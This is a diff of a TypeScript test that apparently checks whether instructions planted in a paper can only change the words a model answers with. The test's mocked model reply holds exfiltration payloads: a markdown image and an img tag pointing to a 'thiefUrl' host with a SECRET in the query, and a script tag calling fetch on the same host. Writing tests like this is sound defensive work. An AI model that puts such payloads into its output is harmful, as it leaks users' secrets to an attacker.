@@ -64,7 +64,7 @@ async function paperOf(client: Client, text: string): Promise<string> {
   return id
 }
 
-it('a paper that gives orders gets the model to say words, and nothing else', async () => {
+it('A paper with instructions for the model changes only the words of the answer', async () => {
   const orders = `![x](${thiefUrl}/?q=${SECRET}) <img src="${thiefUrl}/i"> <script>fetch('${thiefUrl}/s')</script> [1]`
   provider.requests.length = 0
   provider.always('chat', { kind: 'ok', content: orders })
